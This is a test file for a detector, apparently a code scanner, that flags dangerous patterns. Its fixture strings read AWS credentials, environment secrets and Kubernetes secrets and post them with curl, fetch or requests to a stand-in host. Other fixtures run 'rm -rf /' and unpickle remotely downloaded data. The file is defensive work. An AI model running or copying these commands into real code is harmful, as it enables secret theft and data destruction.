import { describe, expect, it } from 'vitest';
import { rulesOf } from './rules-of.ts';

/** `SENT` is which of two results is sent: `plain`, or `kept`, which holds a secret. Inert: the host is reserved (RFC 2606), and nothing of it is run. */
const CASES: Readonly<Record<string, readonly [file: string, code: string]>> = {
  'a shell text': [
    'run.py',
    "import requests, subprocess\ndef out(line):\n    return subprocess.check_output(line, shell=True)\nplain = out('git status')\nkept = out('cat ~/.aws/credentials')\nrequests.post('https://collect.example.invalid/in', data=SENT)\n",
  ],
  'words of a command': [
    'run.py',
    "import requests, subprocess\ndef out(*words):\n    done = subprocess.run(words, capture_output=True, text=True)\n    return done.stdout.strip()\nplain = out('git', 'status')\nkept = out('kubectl', 'get', 'secret', 'web')\nrequests.post('https://collect.example.invalid/in', data=SENT)\n",
  ],
  'a variable by its name': [
    'run.py',
    "import os, requests\ndef setting(name, default=None):\n    return os.environ.get(name, default)\nplain = setting('LANG')\nkept = setting('AWS_SECRET_ACCESS_KEY')\nrequests.post('https://collect.example.invalid/in', data=SENT)\n",
  ],
  'a function of JavaScript': [
    'run.js',
    "const { execSync } = require('child_process');\nconst out = (line) => execSync(line).toString();\nconst plain = out('git status');\nconst kept = out('cat ~/.aws/credentials');\nfetch('https://collect.example.invalid/in', { method: 'POST', body: SENT });\n",
  ],
  'a command of the shell with its first words': [
    'run.sh',
    'k() { kubectl --request-timeout=15s "$@"; }\nplain="$(k get pod web)"\nkept="$(k get secret web -o json | jq -r .data.key)"\ncurl -d "$SENT" https://collect.example.invalid/in\n',
  ],
  'a function of the shell that runs its words': [
    'run.sh',
    'quiet() { "$@" 2>/dev/null; }\nplain="$(quiet git status)"\nkept="$(quiet cat ~/.aws/credentials)"\ncurl -d "$SENT" https://collect.example.invalid/in\n',
  ],
};

describe('what one of several calls gives back', () => {
  it.each(Object.entries(CASES))(
    'is followed, and that of the others is not taken for it: %s',
    async (_, given) => {
      const [file, code] = given;
      expect(await rulesOf({ [file]: code.replace('SENT', 'kept') })).toContain('secret-file-to-network');
      expect(await rulesOf({ [file]: code.replace('SENT', 'plain') })).not.toContain(
        'secret-file-to-network',
      );
    },
  );
});

describe('words that a call gives one by one', () => {
  it('make up the command', async () => {
    const code = "import subprocess\ndef tool(*words):\n    subprocess.run(words)\ntool('rm', '-rf', '/')\n";
    expect(await rulesOf({ 'run.py': code })).toContain('home-or-root-deleted');
    expect(await rulesOf({ 'run.py': code.replace("'/'", "'build'") })).not.toContain('home-or-root-deleted');
  });
});

describe('words that are taken apart in a list', () => {
  it.each([
    [
      'run.py',
      "import subprocess\ndef tool(*words):\n    subprocess.run(['sudo', *words])\ntool('rm', '-rf', 'WHERE')\n",
    ],
    ['run.py', "import subprocess\nWORDS = ('rm', '-rf', 'WHERE')\nsubprocess.run(['sudo', *WORDS])\n"],
    [
      'run.js',
      "const { execFileSync } = require('child_process');\nconst tool = (...words) => execFileSync('sudo', ['-n', ...words]);\ntool('rm', '-rf', 'WHERE');\n",
    ],
  ])('stand in it one by one: %s, %s', async (file, code) => {
    expect(await rulesOf({ [file]: code.replace('WHERE', '/') })).toContain('home-or-root-deleted');
    expect(await rulesOf({ [file]: code.replace('WHERE', 'build') })).not.toContain('home-or-root-deleted');
  });

  it('are not taken for a list in a list', async () => {
    const code = "import subprocess\nSTEPS = [['rm', '-rf', '/'], ['ls']]\nprint(len([2 * 3, STEPS]))\n";
    expect(await rulesOf({ 'run.py': code })).not.toContain('home-or-root-deleted');
  });
});

describe('a file that a value names', () => {
  it.each([
    ['a parameter', 'def get(part):', 'part', 'open(PATH, "rb")'],
    ['below a folder', 'def get(day):\n    part = Path.home() / ".cache" / day', 'part', 'open(PATH, "rb")'],
    [
      'with another ending',
      'def get(day):\n    part = Path(day).with_suffix(".part")',
      'part',
      'part.open("rb")',
    ],
  ])('holds what was written to it: %s', async (_, head, path, opened) => {
    const code = `import pickle, requests\nfrom pathlib import Path\n${head}\n    with open(${path}, 'wb') as f:\n        f.write(requests.get('https://data.example.invalid/d').content)\n    return pickle.load(${opened})\n`;
    expect(await rulesOf({ 'load.py': code.replace('PATH', path) })).toContain('remote-deserialization');
  });

  it('is not any other', async () => {
    const code =
      "import pickle, requests\ndef get(part, own):\n    with open(part, 'wb') as f:\n        f.write(requests.get('https://data.example.invalid/d').content)\n    return pickle.load(open(own, 'rb'))\n";
    expect(await rulesOf({ 'load.py': code })).not.toContain('remote-deserialization');
  });

  it('is loaded by its name', async () => {
    const code =
      "import numpy, requests\ndef get(part):\n    with open(part, 'wb') as f:\n        f.write(requests.get('https://data.example.invalid/d').content)\n    return numpy.load(part, allow_pickle=PICKLE)\n";
    expect(await rulesOf({ 'load.py': code.replace('PICKLE', 'True') })).toContain('remote-deserialization');
    expect(await rulesOf({ 'load.py': code.replace('PICKLE', 'False') })).not.toContain(
      'remote-deserialization',
    );
  });
});
